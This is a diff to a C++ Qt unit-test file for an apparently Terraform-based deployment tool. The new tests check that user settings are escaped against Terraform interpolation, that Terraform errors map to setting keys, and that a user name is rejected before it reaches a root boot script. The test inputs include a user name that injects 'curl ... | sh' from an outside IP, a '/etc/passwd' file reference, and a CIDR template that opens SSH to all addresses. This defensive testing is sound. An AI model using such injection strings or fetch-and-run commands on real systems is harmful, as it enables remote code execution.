@@ -3,12 +3,14 @@
 #include "Experiment.h"
 #include "TestProject.h"
 #include "UserSettings.h"
+#include "deploy/DeployPreview.h"
 #include "deploy/Deployment.h"
 #include "deploy/DeploymentState.h"
 #include "deploy/Terraform.h"
 
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QProcess>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -19,6 +21,8 @@ private Q_SLOTS:
     void slugs();
     void roundTrip();
     void terraformEscapesData();
+    void userDataQuoted();
+    void terraformErrorsNameTheirKey();
     void unsplittableConditionStopsThePlan();
     void settingsRegistryIsCheckedByThePlan();
 
@@ -90,9 +94,54 @@ void TestDeployState::terraformEscapesData()
     QCOMPARE(instance.value(QStringLiteral("user_data")).toString(), QStringLiteral("echo $${HOME}"));
     QCOMPARE(instance.value(QStringLiteral("tags")).toObject().value(QStringLiteral("condition")).toString(),
              QStringLiteral("$${file(\"/etc/passwd\")}"));
-    QVERIFY(Terraform::isValidCidr(QStringLiteral("203.0.113.7/32")));
-    QVERIFY(!Terraform::isValidCidr(QStringLiteral("203.0.113.7")));
-    QVERIFY(!Terraform::isValidCidr(QStringLiteral("nonsense/8")));
+    // Every string is data, the configuration's own references excepted.
+    QCOMPARE(instance.value(QStringLiteral("key_name")).toString(),
+             QStringLiteral("${aws_key_pair.machines.key_name}"));
+    QVERIFY(!QJsonDocument(config).toJson().contains("\\u0001"));
+    settings.instanceType = QStringLiteral("t3.${x}");
+    settings.sshCidr = QStringLiteral("%{ if true }0.0.0.0/0%{ endif }");
+    const QJsonObject hostile = Terraform::configuration(QStringLiteral("exp"), s, settings);
+    const QByteArray text = QJsonDocument(hostile).toJson();
+    QVERIFY(text.contains("t3.$${x}"));
+    QVERIFY(text.contains("%%{ if true }"));
+    QVERIFY(!text.contains("\"t3.${"));
+}
+
+void TestDeployState::userDataQuoted()
+{
+    QFile templateFile(qEnvironmentVariable("LOGISTICIAN_DATA_DIR")
+                       + QStringLiteral("/templates/bootstrap/user-data.sh"));
+    QVERIFY(templateFile.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(templateFile.readAll());
+    // A hostile user name is refused; it never reaches the root boot script.
+    QVERIFY(!Terraform::userData(text, QStringLiteral("exp"),
+                                 QStringLiteral("admin'; curl -s http://203.0.113.9/x | sh; echo '"), 15));
+    QVERIFY(!Terraform::userData(text, QStringLiteral("exp"), QStringLiteral("-admin"), 15));
+    const auto rendered = Terraform::userData(text, QStringLiteral("exp.1"), QStringLiteral("ec2-user"), 15);
+    QVERIFY(rendered);
+    QVERIFY(rendered->contains(QStringLiteral("\nUSER_NAME=ec2-user\n")));
+    QVERIFY(rendered->contains(QStringLiteral("\nAUTO_STOP_MINUTES=15\n")));
+    QVERIFY(!rendered->contains(QLatin1Char('@') + QStringLiteral("USER@")));
+    QProcess sh;
+    sh.start(QStringLiteral("sh"), { QStringLiteral("-n") });
+    sh.write(rendered->toUtf8());
+    sh.closeWriteChannel();
+    QVERIFY(sh.waitForFinished(10000));
+    QCOMPARE(sh.exitCode(), 0);
+}
+
+void TestDeployState::terraformErrorsNameTheirKey()
+{
+    QCOMPARE(DeployPreview::keyForTerraformError(
+                 QStringLiteral("Error: expected instance_type to be one of ...\n  with aws_instance.c1")),
+             QStringLiteral("aws_instance_type"));
+    QCOMPARE(DeployPreview::keyForTerraformError(QStringLiteral("on main.tf.json line 9: \"volume_size\": 3")),
+             QStringLiteral("aws_root_volume_size"));
+    QCOMPARE(DeployPreview::keyForTerraformError(QStringLiteral("\"ingress.0.cidr_blocks.0\" is not a valid CIDR")),
+             QStringLiteral("aws_ssh_cidr (or --ssh-cidr)"));
+    QCOMPARE(DeployPreview::keyForTerraformError(QStringLiteral("Error: Invalid AMI ID \"ami\"")),
+             QStringLiteral("aws_ami"));
+    QVERIFY(DeployPreview::keyForTerraformError(QStringLiteral("Error: Unsupported argument \"tags_all\"")).isEmpty());
 }
 
 void TestDeployState::unsplittableConditionStopsThePlan()
